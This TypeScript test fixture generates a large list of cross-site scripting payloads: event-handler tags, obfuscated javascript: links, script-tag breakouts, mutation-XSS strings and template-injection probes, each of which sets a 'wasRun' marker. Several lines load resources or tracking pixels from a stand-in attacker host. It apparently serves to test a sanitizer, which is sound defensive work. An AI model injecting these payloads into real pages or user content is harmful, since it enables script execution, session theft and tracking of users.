// What attackers write into fields: each calls for `wasRun`, a dialog or a request. Grown from a few shapes, so that every
// tag meets every handler and every scheme every way to write it.

const RUN = "window.wasRun=1;alert(1)";

const TAGS = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "audio src=x",
  "iframe src=//attacker.example",
  "marquee",
  "select autofocus",
];
const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "ontoggle",
  "onmouseover",
  "onstart",
  "onanimationstart",
  "onpointerenter",
];
const handled = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="${RUN}">`));

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "javascript&colon;",
  "&#106;avascript:",
  "\u0001javascript:",
  "vbscript:",
  "data:text/html,",
];
const LINKS = [
  (to: string) => `[here](${to})`,
  (to: string) => `![here](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[here][x]\n\n[x]: ${to}`,
  (to: string) => `<a href="${to}">here</a>`,
  (to: string) => `<form action="${to}"><button>here</button></form>`,
];
const linked = SCHEMES.flatMap((scheme) => LINKS.map((link) => link(`${scheme}${RUN}`)));

const SCRIPTS = ["script", "SCRIPT", "script/x", "script\n", "scr<script>ipt", "svg><script"];
const ENDS = [
  "",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  '">',
  "'>",
  "`>",
  "</noscript>",
];
const scripted = SCRIPTS.flatMap((script) => ENDS.map((end) => `${end}<${script}>${RUN}</script>`));

const FURTHER = [
  `</script><script>${RUN}</script>`,
  `{"@context":"</script><script>${RUN}</script>"}`,
  `<!--<script>${RUN}//-->`,
  `<!-- <img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg><style>{font-family:'<iframe/onload=${RUN}>'`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://attacker.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.example/">`,
  `<link rel=stylesheet href=https://attacker.example/x.css>`,
  `<style>@import 'https://attacker.example/x.css';</style>`,
  `<img src="https://attacker.example/pixel.gif">`,
  `![pixel](https://attacker.example/pixel.gif)`,
  `https://attacker.example/"onmouseover="${RUN}`,
  `[a](https://attacker.example "onmouseover=${RUN}")`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `\u2028<script>${RUN}</script>`,
  "{{constructor.constructor('window.wasRun=1')()}}",
  "${window.wasRun=1}",
  "<%= 7*7 %>",
];

/** Those that break out of a script's data first: names and titles are short. */
export const PAYLOADS: readonly string[] = [...FURTHER, ...scripted, ...linked, ...handled];

/** All of them in one story, each a paragraph, with two honest links. */
export const STORY = [
  "An honest [link](https://example.org/story) and <https://example.org/auto>.",
  ...PAYLOADS.filter((payload) => !payload.startsWith("<!--")),
  // An unclosed comment swallows what follows it: last.
  ...PAYLOADS.filter((payload) => payload.startsWith("<!--")),
].join("\n\n");
